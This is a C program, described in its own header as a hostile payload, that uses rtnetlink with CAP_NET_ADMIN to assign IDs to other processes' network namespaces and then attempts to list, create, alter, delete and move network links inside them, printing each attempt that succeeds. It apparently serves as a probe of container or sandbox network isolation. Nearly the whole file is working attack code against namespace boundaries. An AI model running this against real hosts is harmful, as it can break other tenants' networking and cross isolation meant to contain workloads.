/* A hostile payload with CAP_NET_ADMIN: by rtnetlink(7) it names other network namespaces with the numbers that
 * its own namespace has for them, gives numbers to the namespaces of all processes that it sees, and tries to
 * list, make, join, move and delete links there. It prints a line for each attempt that succeeds, and "done".
 *
 * The namespace of argv[1], a path, gets a number too, if the path is there. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_link.h>
#include <linux/net_namespace.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static int route;
static char buffer[1 << 16];
static struct nlmsghdr *message = (void *)buffer;

static void start(int type, int flags, const void *body, size_t length)
{
	memset(buffer, 0, 1024);
	message->nlmsg_len = NLMSG_LENGTH(length);
	message->nlmsg_type = type;
	message->nlmsg_flags = NLM_F_REQUEST | flags;
	memcpy(NLMSG_DATA(message), body, length);
	message->nlmsg_len = NLMSG_ALIGN(message->nlmsg_len);
}

static struct rtattr *add(int type, const void *value, size_t length)
{
	struct rtattr *attribute = (void *)(buffer + message->nlmsg_len);
	attribute->rta_type = type;
	attribute->rta_len = RTA_LENGTH(length);
	if (length)
		memcpy(RTA_DATA(attribute), value, length);
	message->nlmsg_len += RTA_ALIGN(attribute->rta_len);
	return attribute;
}

static void number(int type, int value)
{
	add(type, &value, 4);
}

static void end(struct rtattr *nest)
{
	nest->rta_len = buffer + message->nlmsg_len - (char *)nest;
}

static void start_link(int type, int flags, int index)
{
	struct ifinfomsg body = { .ifi_index = index };
	start(type, flags, &body, sizeof body);
}

/* Sends the message: 0, or the errno of the answer. */
static int ask(void)
{
	static char answer[1 << 16];
	message->nlmsg_flags |= NLM_F_ACK;
	if (send(route, buffer, message->nlmsg_len, 0) < 0)
		return errno;
	for (;;) {
		ssize_t n = recv(route, answer, sizeof answer, 0);
		struct nlmsghdr *h = (void *)answer;
		if (n < 0)
			return errno;
		for (; NLMSG_OK(h, n); h = NLMSG_NEXT(h, n))
			if (h->nlmsg_type == NLMSG_ERROR)
				return -((struct nlmsgerr *)NLMSG_DATA(h))->error;
	}
}

static void try(const char *what, int netns, const char *name)
{
	if (ask() == 0)
		printf("%s %s of %d\n", what, name, netns), fflush(stdout);
}

/* Prints the links of a namespace, and takes the links of the own one as a pretext for numbers. */
static void list(int netns)
{
	static char answer[1 << 16];
	start_link(RTM_GETLINK, NLM_F_DUMP, 0);
	if (netns >= 0)
		number(IFLA_TARGET_NETNSID, netns);
	send(route, buffer, message->nlmsg_len, 0);
	for (;;) {
		ssize_t n = recv(route, answer, sizeof answer, 0);
		struct nlmsghdr *h = (void *)answer;
		if (n <= 0)
			return;
		for (; NLMSG_OK(h, n); h = NLMSG_NEXT(h, n)) {
			if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR)
				return;
			struct rtattr *a = IFLA_RTA(NLMSG_DATA(h));
			int left = IFLA_PAYLOAD(h);
			for (; netns >= 0 && RTA_OK(a, left); a = RTA_NEXT(a, left))
				if (a->rta_type == IFLA_IFNAME)
					printf("lists %s of %d\n", (char *)RTA_DATA(a), netns);
		}
	}
}

static void add_kind(const char *kind)
{
	struct rtattr *info = add(IFLA_LINKINFO, NULL, 0);
	add(IFLA_INFO_KIND, kind, strlen(kind) + 1);
	end(info);
}

static void attack(int netns)
{
	char name[16];
	list(netns);
	for (int index = 1; index < 24; index++) {
		snprintf(name, sizeof name, "%d", index);
		for (int kind = 0; kind < 2; kind++) {
			start_link(RTM_NEWLINK, NLM_F_CREATE | NLM_F_EXCL, 0);
			number(IFLA_LINK, index);
			number(IFLA_LINK_NETNSID, netns);
			add_kind(kind ? "ipvlan" : "macvlan");
			try(kind ? "ipvlan on" : "macvlan on", netns, name);
		}
	}
	start_link(RTM_NEWLINK, NLM_F_CREATE | NLM_F_EXCL, 0);
	add(IFLA_IFNAME, "planted", 8);
	number(IFLA_TARGET_NETNSID, netns);
	add_kind("bridge");
	try("makes", netns, "planted");
	for (int index = 1; index < 24; index++) {
		snprintf(name, sizeof name, "%d", index);
		start_link(RTM_SETLINK, 0, index);
		number(IFLA_TARGET_NETNSID, netns);
		number(IFLA_MTU, 1280);
		try("changes", netns, name);
	}
	start_link(RTM_DELLINK, 0, 0);
	add(IFLA_IFNAME, "victim", 7);
	number(IFLA_TARGET_NETNSID, netns);
	try("deletes", netns, "victim");
	/* Last, as this may take the own link away. */
	start_link(RTM_NEWLINK, NLM_F_CREATE | NLM_F_EXCL, 0);
	add(IFLA_IFNAME, "moved", 6);
	add_kind("veth");
	ask();
	start_link(RTM_SETLINK, 0, if_nametoindex("moved"));
	number(IFLA_TARGET_NETNSID, netns);
	try("moves", netns, "moved");
}

/* Gives a number to the network namespace of a process, or of an open file. */
static void name_namespace(int type, int value, int netns)
{
	struct rtgenmsg body = { 0 };
	start(RTM_NEWNSID, 0, &body, sizeof body);
	number(NETNSA_NSID, netns);
	number(type, value);
	ask();
}

/* Whether a path leads to the own network namespace, which may be listed and changed. */
static int is_own(const char *path)
{
	struct stat own, other;
	stat("/proc/self/ns/net", &own);
	return stat(path, &other) == 0 && own.st_ino == other.st_ino;
}

int main(int argc, char **argv)
{
	route = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
	list(-1);
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	int next = 100;
	while (proc && (entry = readdir(proc))) {
		char path[300];
		snprintf(path, sizeof path, "/proc/%s/ns/net", entry->d_name);
		if (atoi(entry->d_name) > 0 && next < 140 && !is_own(path))
			name_namespace(NETNSA_PID, atoi(entry->d_name), next++);
	}
	int file = argc > 1 && !is_own(argv[1]) ? open(argv[1], O_RDONLY) : -1;
	if (file >= 0)
		name_namespace(NETNSA_FD, file, 99);
	for (int netns = 0; netns < 8; netns++)
		attack(netns);
	for (int netns = 99; netns < next; netns++)
		attack(netns);
	puts("done");
	return 0;
}
